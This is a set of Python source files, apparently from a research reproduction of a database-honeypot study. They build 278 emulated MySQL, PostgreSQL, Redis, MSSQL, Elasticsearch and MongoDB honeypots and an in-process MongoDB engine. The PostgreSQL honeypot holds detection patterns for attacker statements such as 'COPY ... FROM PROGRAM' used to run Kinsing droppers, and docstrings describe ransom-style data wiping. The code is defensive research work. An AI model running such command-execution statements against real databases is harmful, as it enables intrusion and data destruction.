                f"unknown deployment target {key!r}{hint}") from None

    def select(self, *, interaction: str | None = None,
               dbms: str | None = None, config: str | None = None,
               ) -> list[DeploymentTarget]:
        """Filter targets by interaction level / DBMS / configuration."""
        self.select_calls += 1
        return list(self._select_index.get(
            (interaction, dbms, config), ()))

    def select_keys(self, *, interaction: str | None = None,
                    dbms: str | None = None, config: str | None = None,
                    ) -> tuple[str, ...]:
        """Like :meth:`select`, but the precomputed key tuple (shared,
        immutable -- the form behavior pools actually consume)."""
        self.select_calls += 1
        return self._keys_index.get((interaction, dbms, config), ())

    def hosts(self, *, config: str) -> list[str]:
        """Distinct host identifiers with the given low-int config."""
        return list(self._hosts_index.get(config, ()))

    def __len__(self) -> int:
        return len(self.targets)


def build_plan(seed: int = 2024) -> DeploymentPlan:
    """Instantiate the 278 honeypots of Table 4."""
    targets: list[DeploymentTarget] = []

    # 50 multi-service VMs x 4 low-interaction honeypots.
    for vm in range(50):
        host = f"vm-multi-{vm:02d}"
        for dbms in LOW_DBMS:
            honeypot = _LOW_CLASSES[dbms](
                f"low-{dbms}-multi-{vm:02d}", config="multi")
            targets.append(DeploymentTarget(
                key=f"low/multi/{vm:02d}/{dbms}", host=host,
                honeypot=honeypot))

    # 20 single-service VMs (five per DBMS).
    for dbms in LOW_DBMS:
        for index in range(5):
            host = f"vm-single-{dbms}-{index}"
            honeypot = _LOW_CLASSES[dbms](
                f"low-{dbms}-single-{index}", config="single")
            targets.append(DeploymentTarget(
                key=f"low/single/{dbms}/{index}", host=host,
                honeypot=honeypot))

    # Medium Redis: 10 default + 10 fake-data.
    for config in ("default", "fake_data"):
        for index in range(10):
            honeypot = RedisHoneypot(f"med-redis-{config}-{index}",
                                     config=config, seed=seed + index)
            targets.append(DeploymentTarget(
                key=f"med/redis/{config}/{index}",
                host=f"vm-med-redis-{config}-{index}", honeypot=honeypot))

    # Medium PostgreSQL: 10 default + 10 login-disabled.
    for config in ("default", "login_disabled"):
        for index in range(10):
            honeypot = StickyElephant(f"med-postgresql-{config}-{index}",
                                      config=config)
            targets.append(DeploymentTarget(
                key=f"med/postgresql/{config}/{index}",
                host=f"vm-med-postgresql-{config}-{index}",
                honeypot=honeypot))

    # Medium Elasticsearch: 10 default.
    for index in range(10):
        honeypot = Elasticpot(f"med-elasticsearch-default-{index}")
        targets.append(DeploymentTarget(
            key=f"med/elasticsearch/default/{index}",
            host=f"vm-med-elasticsearch-{index}", honeypot=honeypot))

    # High MongoDB: 8 fake-data instances across eight countries.
    for index, country in enumerate(MONGODB_COUNTRIES):
        honeypot = MongoHoneypot(f"high-mongodb-{index}",
                                 config="fake_data", seed=seed + index)
        targets.append(DeploymentTarget(
            key=f"high/mongodb/{index}", host=f"vm-high-mongodb-{index}",
            honeypot=honeypot, location=country))

    plan = DeploymentPlan(targets)
    if len(plan) != 278:
        raise AssertionError(
            f"deployment must have 278 instances, built {len(plan)}")
    return plan
