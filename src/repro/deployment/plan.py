"""The honeypot deployment plan (Table 4 of the paper).

278 honeypot instances:

* 200 low-interaction honeypots: 50 multi-service VMs, each exposing
  MySQL, PostgreSQL, Redis and MSSQL behind one IP (config ``multi``),
* 20 low-interaction honeypots: 20 single-service VMs, five per DBMS
  (config ``single``) -- the control group for the honeypot-obviousness
  question,
* 20 medium-interaction Redis (10 ``default`` + 10 ``fake_data``),
* 20 medium-interaction PostgreSQL (10 ``default`` + 10
  ``login_disabled``),
* 10 medium-interaction Elasticsearch (``default``),
* 8 high-interaction MongoDB (``fake_data``), one per country.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.honeypots import (Elasticpot, Honeypot, LowInteractionMSSQL,
                             LowInteractionMySQL, LowInteractionPostgres,
                             LowInteractionRedis, MongoHoneypot,
                             RedisHoneypot, StickyElephant)

#: Countries hosting the eight MongoDB instances.
MONGODB_COUNTRIES = ("Australia", "Canada", "Germany", "India",
                     "Netherlands", "Singapore", "United Kingdom",
                     "United States")

#: DBMS order on the multi-service VMs.
LOW_DBMS = ("mysql", "postgresql", "redis", "mssql")

_LOW_CLASSES = {
    "mysql": LowInteractionMySQL,
    "postgresql": LowInteractionPostgres,
    "redis": LowInteractionRedis,
    "mssql": LowInteractionMSSQL,
}


@dataclass(frozen=True)
class DeploymentTarget:
    """One deployed honeypot instance, addressable by ``key``.

    ``host`` groups instances sharing a public IP (the multi-service
    VMs); ``location`` is the hosting country.
    """

    key: str
    host: str
    honeypot: Honeypot
    location: str = "Netherlands"

    @property
    def dbms(self) -> str:
        return self.honeypot.dbms

    @property
    def interaction(self) -> str:
        return self.honeypot.interaction

    @property
    def config(self) -> str:
        return self.honeypot.info.config


@dataclass
class DeploymentPlan:
    """The full deployment, with lookup helpers for the actor layer."""

    targets: list[DeploymentTarget] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._by_key = {target.key: target for target in self.targets}

    def by_key(self, key: str) -> DeploymentTarget:
        """Look up one target."""
        return self._by_key[key]

    def select(self, *, interaction: str | None = None,
               dbms: str | None = None, config: str | None = None,
               ) -> list[DeploymentTarget]:
        """Filter targets by interaction level / DBMS / configuration."""
        found = []
        for target in self.targets:
            if interaction is not None and target.interaction != interaction:
                continue
            if dbms is not None and target.dbms != dbms:
                continue
            if config is not None and target.config != config:
                continue
            found.append(target)
        return found

    def hosts(self, *, config: str) -> list[str]:
        """Distinct host identifiers with the given low-int config."""
        seen: dict[str, None] = {}
        for target in self.targets:
            if target.config == config:
                seen.setdefault(target.host, None)
        return list(seen)

    def __len__(self) -> int:
        return len(self.targets)


def build_plan(seed: int = 2024) -> DeploymentPlan:
    """Instantiate the 278 honeypots of Table 4."""
    targets: list[DeploymentTarget] = []

    # 50 multi-service VMs x 4 low-interaction honeypots.
    for vm in range(50):
        host = f"vm-multi-{vm:02d}"
        for dbms in LOW_DBMS:
            honeypot = _LOW_CLASSES[dbms](
                f"low-{dbms}-multi-{vm:02d}", config="multi")
            targets.append(DeploymentTarget(
                key=f"low/multi/{vm:02d}/{dbms}", host=host,
                honeypot=honeypot))

    # 20 single-service VMs (five per DBMS).
    for dbms in LOW_DBMS:
        for index in range(5):
            host = f"vm-single-{dbms}-{index}"
            honeypot = _LOW_CLASSES[dbms](
                f"low-{dbms}-single-{index}", config="single")
            targets.append(DeploymentTarget(
                key=f"low/single/{dbms}/{index}", host=host,
                honeypot=honeypot))

    # Medium Redis: 10 default + 10 fake-data.
    for config in ("default", "fake_data"):
        for index in range(10):
            honeypot = RedisHoneypot(f"med-redis-{config}-{index}",
                                     config=config, seed=seed + index)
            targets.append(DeploymentTarget(
                key=f"med/redis/{config}/{index}",
                host=f"vm-med-redis-{config}-{index}", honeypot=honeypot))

    # Medium PostgreSQL: 10 default + 10 login-disabled.
    for config in ("default", "login_disabled"):
        for index in range(10):
            honeypot = StickyElephant(f"med-postgresql-{config}-{index}",
                                      config=config)
            targets.append(DeploymentTarget(
                key=f"med/postgresql/{config}/{index}",
                host=f"vm-med-postgresql-{config}-{index}",
                honeypot=honeypot))

    # Medium Elasticsearch: 10 default.
    for index in range(10):
        honeypot = Elasticpot(f"med-elasticsearch-default-{index}")
        targets.append(DeploymentTarget(
            key=f"med/elasticsearch/default/{index}",
            host=f"vm-med-elasticsearch-{index}", honeypot=honeypot))

    # High MongoDB: 8 fake-data instances across eight countries.
    for index, country in enumerate(MONGODB_COUNTRIES):
        honeypot = MongoHoneypot(f"high-mongodb-{index}",
                                 config="fake_data", seed=seed + index)
        targets.append(DeploymentTarget(
            key=f"high/mongodb/{index}", host=f"vm-high-mongodb-{index}",
            honeypot=honeypot, location=country))

    plan = DeploymentPlan(targets)
    if len(plan) != 278:
        raise AssertionError(
            f"deployment must have 278 instances, built {len(plan)}")
    return plan
