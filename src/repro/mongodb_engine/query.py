"""MongoDB query filter evaluation.

Implements the filter subset used by scanners and data-theft scripts:
equality on (possibly dotted) paths, the comparison operators
``$eq/$ne/$gt/$gte/$lt/$lte``, membership ``$in/$nin``, ``$exists``,
``$regex``, and the logical combinators ``$and/$or/$nor/$not``.
"""

from __future__ import annotations

import re


class QueryError(ValueError):
    """Raised for malformed filters (unknown operators, bad operands)."""


_MISSING = object()


def matches(document: dict, query: dict) -> bool:
    """Return whether ``document`` satisfies ``query``.

    An empty query matches every document (MongoDB semantics).
    """
    for key, condition in query.items():
        if key == "$and":
            _require_list(key, condition)
            if not all(matches(document, sub) for sub in condition):
                return False
        elif key == "$or":
            _require_list(key, condition)
            if not any(matches(document, sub) for sub in condition):
                return False
        elif key == "$nor":
            _require_list(key, condition)
            if any(matches(document, sub) for sub in condition):
                return False
        elif key.startswith("$"):
            raise QueryError(f"unknown top-level operator {key}")
        else:
            if not _match_path(document, key, condition):
                return False
    return True


def _match_path(document: dict, path: str, condition: object) -> bool:
    value = _resolve(document, path)
    if isinstance(condition, dict) and any(
            k.startswith("$") for k in condition):
        return _match_operators(value, condition)
    if value is _MISSING:
        return False
    return _values_equal(value, condition)


def _match_operators(value: object, operators: dict) -> bool:
    for op, operand in operators.items():
        if op == "$eq":
            if value is _MISSING or not _values_equal(value, operand):
                return False
        elif op == "$ne":
            if value is not _MISSING and _values_equal(value, operand):
                return False
        elif op in ("$gt", "$gte", "$lt", "$lte"):
            if not _compare(op, value, operand):
                return False
        elif op == "$in":
            _require_list(op, operand)
            if value is _MISSING or not any(
                    _values_equal(value, item) for item in operand):
                return False
        elif op == "$nin":
            _require_list(op, operand)
            if value is not _MISSING and any(
                    _values_equal(value, item) for item in operand):
                return False
        elif op == "$exists":
            if bool(operand) != (value is not _MISSING):
                return False
        elif op == "$regex":
            if not isinstance(value, str):
                return False
            if re.search(str(operand), value) is None:
                return False
        elif op == "$not":
            if not isinstance(operand, dict):
                raise QueryError("$not requires an operator document")
            if _match_operators(value, operand):
                return False
        else:
            raise QueryError(f"unknown operator {op}")
    return True


def _resolve(document: object, path: str) -> object:
    current = document
    for part in path.split("."):
        if isinstance(current, dict) and part in current:
            current = current[part]
        elif isinstance(current, list) and part.isdigit():
            index = int(part)
            if index >= len(current):
                return _MISSING
            current = current[index]
        else:
            return _MISSING
    return current


def _values_equal(left: object, right: object) -> bool:
    # Arrays match their elements too (MongoDB "multikey" behavior).
    if isinstance(left, list) and not isinstance(right, list):
        return any(_values_equal(item, right) for item in left)
    if type(left) is bool or type(right) is bool:
        return left is right if isinstance(left, bool) and isinstance(
            right, bool) else False
    if isinstance(left, (int, float)) and isinstance(right, (int, float)):
        return float(left) == float(right)
    return left == right


def _compare(op: str, value: object, operand: object) -> bool:
    if value is _MISSING:
        return False
    comparable = (isinstance(value, (int, float))
                  and isinstance(operand, (int, float))
                  and not isinstance(value, bool)
                  and not isinstance(operand, bool))
    if not comparable:
        comparable = isinstance(value, str) and isinstance(operand, str)
    if not comparable:
        return False
    if op == "$gt":
        return value > operand
    if op == "$gte":
        return value >= operand
    if op == "$lt":
        return value < operand
    return value <= operand


def _require_list(op: str, operand: object) -> None:
    if not isinstance(operand, list):
        raise QueryError(f"{op} requires an array operand")
