"""The document store and its command interface.

:class:`MongoEngine` executes the database commands the wire layer
dispatches to it.  Commands arrive as plain dictionaries (decoded BSON)
and results return as dictionaries (to be re-encoded); the engine knows
nothing about the wire protocol.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.protocols.bson import ObjectId
from repro.mongodb_engine.query import QueryError, matches


class CommandError(Exception):
    """A command failed; carries the MongoDB error code and message."""

    def __init__(self, code: int, code_name: str, message: str):
        super().__init__(message)
        self.code = code
        self.code_name = code_name


@dataclass
class Collection:
    """An ordered list of documents."""

    documents: list[dict] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.documents)


@dataclass
class MongoEngine:
    """Databases -> collections -> documents, plus command execution."""

    version: str = "7.0.5"
    _databases: dict[str, dict[str, Collection]] = field(
        default_factory=dict)
    _next_object_id: int = 1

    # -- direct (Python) API ------------------------------------------------

    def insert(self, database: str, collection: str,
               documents: list[dict]) -> int:
        """Insert ``documents``, assigning ``_id`` where missing."""
        target = self._collection(database, collection, create=True)
        for document in documents:
            if "_id" not in document:
                document = {"_id": self._new_object_id(), **document}
            target.documents.append(document)
        return len(documents)

    def find(self, database: str, collection: str, query: dict
             | None = None, *, limit: int = 0) -> list[dict]:
        """Return documents matching ``query`` (all when ``None``)."""
        target = self._collection(database, collection)
        if target is None:
            return []
        results = []
        for document in target.documents:
            if query is None or matches(document, query):
                results.append(document)
                if limit and len(results) >= limit:
                    break
        return results

    def count(self, database: str, collection: str,
              query: dict | None = None) -> int:
        """Count documents matching ``query``."""
        return len(self.find(database, collection, query))

    def delete(self, database: str, collection: str, query: dict, *,
               limit: int = 0) -> int:
        """Delete matching documents; returns the number removed."""
        target = self._collection(database, collection)
        if target is None:
            return 0
        kept, removed = [], 0
        for document in target.documents:
            if (not limit or removed < limit) and matches(document, query):
                removed += 1
            else:
                kept.append(document)
        target.documents = kept
        return removed

    def update(self, database: str, collection: str, query: dict,
               change: dict, *, multi: bool = False,
               upsert: bool = False) -> tuple[int, int]:
        """Update matching documents; returns (matched, modified).

        ``change`` is either a ``$set``/``$unset`` operator document or
        a full replacement document.  With ``upsert`` and no match, a
        new document is inserted.
        """
        target = self._collection(database, collection,
                                  create=upsert)
        matched = modified = 0
        if target is not None:
            for index, document in enumerate(target.documents):
                if not matches(document, query):
                    continue
                matched += 1
                updated = _apply_update(document, change)
                if updated != document:
                    target.documents[index] = updated
                    modified += 1
                if not multi:
                    break
        if matched == 0 and upsert:
            seed = {key: value for key, value in query.items()
                    if not key.startswith("$")
                    and not isinstance(value, dict)}
            self.insert(database, collection,
                        [_apply_update(seed, change)])
            return 0, 1
        return matched, modified

    def distinct(self, database: str, collection: str, key: str,
                 query: dict | None = None) -> list:
        """Distinct values of ``key`` among matching documents."""
        seen = []
        for document in self.find(database, collection, query):
            value = document.get(key)
            if value is not None and value not in seen:
                seen.append(value)
        return seen

    def drop_collection(self, database: str, collection: str) -> bool:
        """Drop one collection; returns whether it existed."""
        collections = self._databases.get(database)
        if collections and collections.pop(collection, None) is not None:
            if not collections:
                self._databases.pop(database, None)
            return True
        return False

    def drop_database(self, database: str) -> bool:
        """Drop a whole database; returns whether it existed."""
        return self._databases.pop(database, None) is not None

    def list_databases(self) -> list[str]:
        """Names of non-empty databases, sorted."""
        return sorted(self._databases)

    def list_collections(self, database: str) -> list[str]:
        """Collection names of ``database``, sorted."""
        return sorted(self._databases.get(database, {}))

    # -- command execution ---------------------------------------------------

    def run_command(self, database: str, command: dict) -> dict:
        """Execute one database command and return its reply document.

        Raises
        ------
        CommandError
            For unknown commands or malformed arguments; the wire layer
            translates this into an ``ok: 0`` reply.
        """
        if not command:
            raise CommandError(40415, "FailedToParse", "empty command")
        name = next(iter(command))
        handler = _COMMANDS.get(name.lower())
        if handler is None:
            raise CommandError(
                59, "CommandNotFound", f"no such command: '{name}'")
        try:
            return handler(self, database, command)
        except QueryError as exc:
            raise CommandError(2, "BadValue", str(exc)) from exc

    # -- command handlers ------------------------------------------------------

    def _cmd_hello(self, database: str, command: dict) -> dict:
        return {
            "ismaster": True,
            "isWritablePrimary": True,
            "maxBsonObjectSize": 16 * 1024 * 1024,
            "maxMessageSizeBytes": 48 * 1024 * 1024,
            "maxWireVersion": 21,
            "minWireVersion": 0,
            "readOnly": False,
            "ok": 1.0,
        }

    def _cmd_ping(self, database: str, command: dict) -> dict:
        return {"ok": 1.0}

    def _cmd_build_info(self, database: str, command: dict) -> dict:
        major, minor, patch = (int(part) for part in
                               self.version.split("."))
        return {
            "version": self.version,
            "gitVersion": "0000000000000000000000000000000000000000",
            "versionArray": [major, minor, patch, 0],
            "bits": 64,
            "ok": 1.0,
        }

    def _cmd_server_status(self, database: str, command: dict) -> dict:
        return {
            "host": "db-prod-01",
            "version": self.version,
            "process": "mongod",
            "uptime": 86400.0,
            "connections": {"current": 1, "available": 819199},
            "ok": 1.0,
        }

    def _cmd_get_log(self, database: str, command: dict) -> dict:
        return {"totalLinesWritten": 0, "log": [], "ok": 1.0}

    def _cmd_whatsmyuri(self, database: str, command: dict) -> dict:
        return {"you": "0.0.0.0:0", "ok": 1.0}

    def _cmd_list_databases(self, database: str, command: dict) -> dict:
        databases = []
        total = 0
        for name in self.list_databases():
            size = sum(len(coll) for coll in
                       self._databases[name].values()) * 1024
            databases.append(
                {"name": name, "sizeOnDisk": size, "empty": size == 0})
            total += size
        return {"databases": databases, "totalSize": total, "ok": 1.0}

    def _cmd_list_collections(self, database: str, command: dict) -> dict:
        names = self.list_collections(database)
        batch = [{"name": name, "type": "collection",
                  "options": {}, "info": {"readOnly": False}}
                 for name in names]
        return {"cursor": {"id": 0,
                           "ns": f"{database}.$cmd.listCollections",
                           "firstBatch": batch},
                "ok": 1.0}

    def _cmd_find(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "find")
        query = command.get("filter") or {}
        limit = int(command.get("limit") or 0)
        if limit < 0:
            limit = -limit
        documents = self.find(database, collection, query, limit=limit)
        return {"cursor": {"id": 0, "ns": f"{database}.{collection}",
                           "firstBatch": documents},
                "ok": 1.0}

    def _cmd_count(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "count")
        query = command.get("query") or {}
        return {"n": self.count(database, collection, query), "ok": 1.0}

    def _cmd_insert(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "insert")
        documents = command.get("documents")
        if not isinstance(documents, list) or not documents:
            raise CommandError(2, "BadValue",
                               "insert requires a documents array")
        inserted = self.insert(database, collection, documents)
        return {"n": inserted, "ok": 1.0}

    def _cmd_delete(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "delete")
        deletes = command.get("deletes")
        if not isinstance(deletes, list):
            raise CommandError(2, "BadValue",
                               "delete requires a deletes array")
        removed = 0
        for spec in deletes:
            query = spec.get("q", {})
            limit = int(spec.get("limit", 0))
            removed += self.delete(database, collection, query, limit=limit)
        return {"n": removed, "ok": 1.0}

    def _cmd_drop(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "drop")
        if not self.drop_collection(database, collection):
            raise CommandError(26, "NamespaceNotFound", "ns not found")
        return {"ns": f"{database}.{collection}", "ok": 1.0}

    def _cmd_drop_database(self, database: str, command: dict) -> dict:
        self.drop_database(database)
        return {"dropped": database, "ok": 1.0}

    def _cmd_update(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "update")
        updates = command.get("updates")
        if not isinstance(updates, list) or not updates:
            raise CommandError(2, "BadValue",
                               "update requires an updates array")
        matched = modified = 0
        for spec in updates:
            m, n = self.update(database, collection, spec.get("q", {}),
                               spec.get("u", {}),
                               multi=bool(spec.get("multi")),
                               upsert=bool(spec.get("upsert")))
            matched += m
            modified += n
        return {"n": matched, "nModified": modified, "ok": 1.0}

    def _cmd_distinct(self, database: str, command: dict) -> dict:
        collection = _collection_arg(command, "distinct")
        key = command.get("key")
        if not isinstance(key, str) or not key:
            raise CommandError(2, "BadValue",
                               "distinct requires a key")
        values = self.distinct(database, collection, key,
                               command.get("query") or {})
        return {"values": values, "ok": 1.0}

    def _cmd_end_sessions(self, database: str, command: dict) -> dict:
        return {"ok": 1.0}

    # -- internals ------------------------------------------------------------

    def _collection(self, database: str, collection: str, *,
                    create: bool = False) -> Collection | None:
        collections = self._databases.get(database)
        if collections is None:
            if not create:
                return None
            collections = self._databases[database] = {}
        target = collections.get(collection)
        if target is None:
            if not create:
                return None
            target = collections[collection] = Collection()
        return target

    def _new_object_id(self) -> ObjectId:
        oid = ObjectId.from_counter(self._next_object_id)
        self._next_object_id += 1
        return oid


def _collection_arg(command: dict, name: str) -> str:
    value = command.get(name)
    if not isinstance(value, str) or not value:
        raise CommandError(73, "InvalidNamespace",
                           f"{name} requires a collection name")
    return value


_COMMANDS = {
    "hello": MongoEngine._cmd_hello,
    "ismaster": MongoEngine._cmd_hello,
    "ping": MongoEngine._cmd_ping,
    "buildinfo": MongoEngine._cmd_build_info,
    "serverstatus": MongoEngine._cmd_server_status,
    "getlog": MongoEngine._cmd_get_log,
    "whatsmyuri": MongoEngine._cmd_whatsmyuri,
    "listdatabases": MongoEngine._cmd_list_databases,
    "listcollections": MongoEngine._cmd_list_collections,
    "find": MongoEngine._cmd_find,
    "count": MongoEngine._cmd_count,
    "insert": MongoEngine._cmd_insert,
    "delete": MongoEngine._cmd_delete,
    "drop": MongoEngine._cmd_drop,
    "dropdatabase": MongoEngine._cmd_drop_database,
    "update": MongoEngine._cmd_update,
    "distinct": MongoEngine._cmd_distinct,
    "endsessions": MongoEngine._cmd_end_sessions,
}


def _apply_update(document: dict, change: dict) -> dict:
    """Apply an update document: $set/$unset operators or replacement."""
    operators = {key for key in change if key.startswith("$")}
    if not operators:
        replacement = dict(change)
        if "_id" in document:
            replacement.setdefault("_id", document["_id"])
        return replacement
    updated = dict(document)
    for operator, operand in change.items():
        if operator == "$set":
            if not isinstance(operand, dict):
                raise CommandError(2, "BadValue",
                                   "$set requires a document")
            updated.update(operand)
        elif operator == "$unset":
            if not isinstance(operand, dict):
                raise CommandError(2, "BadValue",
                                   "$unset requires a document")
            for key in operand:
                updated.pop(key, None)
        elif operator == "$inc":
            if not isinstance(operand, dict):
                raise CommandError(2, "BadValue",
                                   "$inc requires a document")
            for key, delta in operand.items():
                updated[key] = updated.get(key, 0) + delta
        else:
            raise CommandError(2, "BadValue",
                               f"unsupported update operator {operator}")
    return updated
