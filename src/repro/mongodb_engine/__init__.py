"""An in-process MongoDB-subset document store.

The paper's high-interaction honeypot runs a *real* MongoDB inside Docker;
here the real database is replaced by this engine -- small, but genuinely
stateful: inserts, finds, deletes and drops actually execute, which is
what makes ransom attacks (dump, wipe, leave a note) observable end to
end.
"""

from repro.mongodb_engine.engine import MongoEngine
from repro.mongodb_engine.query import matches

__all__ = ["MongoEngine", "matches"]
