"""Honeypot catalog (Table 3 of the paper).

Maps every honeypot family to its interaction level, the DBMS it
simulates, and the adversarial behaviors it can capture (S = scanning,
T = scouting, E = exploiting).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class CatalogEntry:
    """One row of Table 3."""

    honeypot: str
    level: str
    simulates: tuple[str, ...]
    captures: tuple[str, ...]


#: The deployed honeypot families, matching Table 3.
CATALOG: tuple[CatalogEntry, ...] = (
    CatalogEntry("qeeqbox", "Low",
                 ("mysql", "postgresql", "redis", "mssql"), ("S", "T")),
    CatalogEntry("redishoneypot", "Medium", ("redis",), ("S", "T", "E")),
    CatalogEntry("sticky_elephant", "Medium", ("postgresql",),
                 ("S", "T", "E")),
    CatalogEntry("elasticpot", "Medium", ("elasticsearch",),
                 ("S", "T", "E")),
    CatalogEntry("mongodb-honeypot", "High", ("mongodb",), ("S", "T", "E")),
)


def entry_for(honeypot_type: str) -> CatalogEntry:
    """Look up the catalog row for a honeypot family.

    Raises
    ------
    KeyError
        If the family is not part of the deployment.
    """
    for entry in CATALOG:
        if entry.honeypot == honeypot_type:
            return entry
    raise KeyError(honeypot_type)
