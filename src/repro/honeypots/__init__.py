"""Database honeypots.

One module per honeypot family deployed in the paper (Table 3):

* :mod:`repro.honeypots.lowint` -- Qeeqbox-style low-interaction MySQL,
  PostgreSQL, Redis and MSSQL honeypots (credential capture only),
* :mod:`repro.honeypots.redis_honeypot` -- medium-interaction Redis,
* :mod:`repro.honeypots.sticky_elephant` -- medium-interaction PostgreSQL,
* :mod:`repro.honeypots.elasticpot` -- medium-interaction Elasticsearch,
* :mod:`repro.honeypots.mongo_honeypot` -- high-interaction MongoDB.

All honeypots are transport-agnostic byte-stream sessions
(:mod:`repro.honeypots.base`); :mod:`repro.honeypots.tcp` serves them
over real sockets and :class:`repro.honeypots.base.MemoryWire` drives
them in-process for the fast simulation.
"""

from repro.honeypots.base import (Honeypot, HoneypotSession, MemoryWire,
                                  SessionContext)
from repro.honeypots.catalog import CATALOG, CatalogEntry
from repro.honeypots.lowint import (LowInteractionMSSQL, LowInteractionMySQL,
                                    LowInteractionPostgres,
                                    LowInteractionRedis)
from repro.honeypots.redis_honeypot import RedisHoneypot
from repro.honeypots.sticky_elephant import StickyElephant
from repro.honeypots.elasticpot import Elasticpot
from repro.honeypots.mongo_honeypot import MongoHoneypot

__all__ = [
    "Honeypot",
    "HoneypotSession",
    "MemoryWire",
    "SessionContext",
    "CATALOG",
    "CatalogEntry",
    "LowInteractionMySQL",
    "LowInteractionPostgres",
    "LowInteractionRedis",
    "LowInteractionMSSQL",
    "RedisHoneypot",
    "StickyElephant",
    "Elasticpot",
    "MongoHoneypot",
]
