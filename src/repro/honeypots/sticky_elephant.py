"""Medium-interaction PostgreSQL honeypot (the paper's Sticky Elephant).

Speaks the pgwire protocol and answers queries from a scripted handler:
it does not execute SQL, but recognizes the statement shapes attackers
use (``COPY ... FROM PROGRAM`` for Kinsing droppers, ``ALTER USER`` for
privilege manipulation, table create/drop around command execution) and
produces believable responses.

Two deployment configurations, matching Table 4:

* ``default`` -- any password is accepted and queries can be issued,
* ``login_disabled`` -- every authentication attempt fails.
"""

from __future__ import annotations

import re

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.pipeline.logstore import EventType
from repro.protocols import postgres as pg
from repro.protocols.errors import ProtocolError

SERVER_VERSION = "12.7 (Ubuntu 12.7-0ubuntu0.20.04.1)"

#: Statement-shape patterns, tried in order; first match wins.  The
#: normalized action string doubles as the clustering "term" for this
#: query.
_SQL_ACTIONS: list[tuple[re.Pattern[str], str]] = [
    (re.compile(r"copy\s+.*\bfrom\s+program\b", re.I | re.S),
     "COPY FROM PROGRAM"),
    (re.compile(r"^\s*create\s+table", re.I), "CREATE TABLE"),
    (re.compile(r"^\s*drop\s+table", re.I), "DROP TABLE"),
    (re.compile(r"^\s*alter\s+user", re.I), "ALTER USER"),
    (re.compile(r"^\s*alter\s+role", re.I), "ALTER ROLE"),
    (re.compile(r"^\s*create\s+user", re.I), "CREATE USER"),
    (re.compile(r"^\s*select\s+version\s*\(", re.I), "SELECT VERSION"),
    (re.compile(r"^\s*select\s+pg_sleep", re.I), "SELECT PG_SLEEP"),
    (re.compile(r"^\s*select\b", re.I), "SELECT"),
    (re.compile(r"^\s*insert\b", re.I), "INSERT"),
    (re.compile(r"^\s*update\b", re.I), "UPDATE"),
    (re.compile(r"^\s*delete\b", re.I), "DELETE"),
    (re.compile(r"^\s*set\b", re.I), "SET"),
    (re.compile(r"^\s*show\b", re.I), "SHOW"),
]


def response_category(sql: str) -> str:
    """Map a SQL statement to the coarse category the scripted response
    handler dispatches on."""
    for pattern, action in _SQL_ACTIONS:
        if pattern.search(sql):
            return action
    return "UNKNOWN SQL"


_SQL_TOKEN = re.compile(r"[A-Za-z_][A-Za-z0-9_.]*")


def normalize_sql_action(sql: str) -> str:
    """Map a SQL statement to its normalized (logged) action token.

    Dangerous statement shapes keep their category names; everything
    else is summarized by its first two identifiers, so ``SELECT
    current_user;`` and ``SELECT version();`` are distinct clustering
    terms while parameter values are dropped.
    """
    category = response_category(sql)
    if category not in ("SELECT", "SHOW", "SET", "UNKNOWN SQL"):
        return category
    tokens = _SQL_TOKEN.findall(sql)
    if tokens:
        return " ".join(token.upper() for token in tokens[:2])
    return "UNKNOWN SQL"


class StickyElephant(Honeypot):
    """The medium-interaction PostgreSQL honeypot."""

    honeypot_type = "sticky_elephant"
    dbms = "postgresql"
    interaction = "medium"
    default_port = 5432

    def __init__(self, honeypot_id: str, *, config: str = "default",
                 port: int | None = None):
        if config not in ("default", "login_disabled"):
            raise ValueError(
                f"unsupported StickyElephant config {config!r}")
        super().__init__(honeypot_id, config=config, port=port)

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _ElephantSession(self.info, context)


class _ElephantSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext):
        super().__init__(info, context)
        self._stream = pg.PgStream(expect_startup=True)
        self._user: str | None = None
        self._authenticated = False

    def on_data(self, data: bytes) -> bytes:
        try:
            messages = self._stream.feed(data)
        except ProtocolError:
            # Non-pgwire probes (RDP cookies, TLS hellos) land here; the
            # raw bytes are kept for behavioral analysis.
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return b""
        out = bytearray()
        for message in messages:
            out += self._handle(message)
            if self.closed:
                break
        return bytes(out)

    def _handle(self, message: object) -> bytes:
        if isinstance(message, pg.SSLRequest):
            return b"N"
        if isinstance(message, pg.StartupMessage):
            self._user = message.user or ""
            return pg.build_authentication_request(
                pg.AUTH_CLEARTEXT_PASSWORD)
        if isinstance(message, pg.CancelRequest):
            self.closed = True
            return b""
        if isinstance(message, pg.FrontendMessage):
            return self._handle_typed(message)
        self.log(EventType.MALFORMED, raw=repr(message))
        self.closed = True
        return b""

    def _handle_typed(self, message: pg.FrontendMessage) -> bytes:
        if message.type_code == b"p":
            return self._handle_password(message.payload)
        if message.type_code == b"Q":
            return self._handle_query(message.payload)
        if message.type_code == b"X":
            self.closed = True
            return b""
        self.log(EventType.MALFORMED, raw=repr(message))
        return pg.build_error_response(
            "ERROR", "0A000", "unsupported frontend message")

    def _handle_password(self, payload: bytes) -> bytes:
        password = payload.rstrip(b"\x00").decode("utf-8", "replace")
        self.log(EventType.LOGIN_ATTEMPT, action="login",
                 username=self._user, password=password)
        if self.info.config == "login_disabled":
            self.closed = True
            return pg.build_error_response(
                "FATAL", "28P01",
                f'password authentication failed for user "{self._user}"')
        self._authenticated = True
        return (pg.build_authentication_ok()
                + pg.build_parameter_status("server_version", "12.7")
                + pg.build_parameter_status("server_encoding", "UTF8")
                + pg.build_backend_key_data(4242, 91919191)
                + pg.build_ready_for_query())

    def _handle_query(self, payload: bytes) -> bytes:
        sql = payload.rstrip(b"\x00").decode("utf-8", "replace")
        self.log(EventType.QUERY, action=normalize_sql_action(sql),
                 raw=sql)
